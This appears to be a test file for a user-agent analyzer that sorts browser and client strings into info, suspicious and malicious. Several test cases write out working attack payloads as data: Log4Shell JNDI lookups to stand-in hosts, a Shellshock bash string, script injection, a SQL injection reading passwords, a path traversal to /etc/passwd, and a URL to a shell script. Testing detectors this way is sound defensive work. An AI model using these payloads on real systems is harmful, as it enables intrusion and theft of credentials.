import fc from 'fast-check'
import { expect, it } from 'vitest'
import { anyCharacter } from '../kit/any-text.ts'
import { reportOf, runAnalyzer } from '../kit/try.ts'
import { analyzer } from './analyzer.ts'

const look = (data: string) => reportOf(analyzer, { dataType: 'user-agent', data })

const chrome =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36'

it('names browser and system of an ordinary one, and nothing more', async () => {
  const { taxonomies, full } = await look(chrome)

  expect(taxonomies).toEqual([
    { level: 'info', namespace: 'UserAgent', predicate: 'Browser', value: 'Chrome 126.0.0.0' },
    { level: 'info', namespace: 'UserAgent', predicate: 'System', value: 'Windows 10' },
  ])
  expect(full).toMatchObject({ device: 'desktop', engine: 'Blink', program: null })
})

it.each([
  ['curl/8.5.0', 'info', 'Program', 'curl'],
  ['python-requests/2.31.0', 'info', 'Program', 'python-requests'],
  [
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'info',
    'Program',
    'googlebot',
  ],
  ['sqlmap/1.8#stable (https://sqlmap.org)', 'suspicious', 'Program', 'sqlmap'],
  [
    'Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1.19041',
    'suspicious',
    'Program',
    'powershell',
  ],
  ['Microsoft BITS/7.8', 'suspicious', 'Program', 'microsoft bits'],
  [
    'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)',
    'suspicious',
    'Browser',
    'Internet Explorer',
  ],
  ['Mozilla/5.0', 'suspicious', 'Form', 'bare'],
  ['', 'suspicious', 'Form', 'bare'],
  [chrome.replace('x64', 'iPhone'), 'suspicious', 'Contradiction', 'Windows and iOS'],
  ['a'.repeat(1_001), 'suspicious', 'Length', '1001 characters'],
  [`\${jndi:ldap://evil.test/a}`, 'malicious', 'Attack', 'Log4Shell'],
  [`\${\${lower:j}ndi:ldap://evil.test/a}`, 'malicious', 'Attack', 'Log4Shell'],
  ['() { :; }; /bin/bash -c "id"', 'malicious', 'Attack', 'Shellshock'],
  ['<script>alert(1)</script>', 'malicious', 'Attack', 'script'],
  ["x' UNION SELECT password FROM users--", 'malicious', 'Attack', 'SQL'],
  ['../../../../etc/passwd', 'malicious', 'Attack', 'path'],
])('judges %j', async (data, level, predicate, value) => {
  expect((await look(data)).taxonomies).toContainEqual(
    expect.objectContaining({ level, predicate, value }),
  )
})

it('hands out the addresses that an attack names', async () => {
  const { artifacts } = await look(`\${jndi:ldap://evil.example.com/a} http://1.2.3.4/x.sh`)

  expect(JSON.stringify(artifacts)).toContain('http://1.2.3.4/x.sh')
})

it('never fails in an unforeseen way', async () => {
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: anyCharacter, maxLength: 3_000 }), async (data) => {
      expect(await runAnalyzer(analyzer, { dataType: 'user-agent', data })).toMatchObject({
        success: true,
      })
    }),
  )
})

it('reads a hostile text of the largest size at once', async () => {
  for (const text of ['${', '() {', 'union ', '(', 'Mozilla/'].map((part) =>
    part.repeat(65_536 / part.length),
  ))
    expect(
      await runAnalyzer(analyzer, { dataType: 'user-agent', data: text.slice(0, 65_536) }),
    ).toMatchObject({ success: true })
})
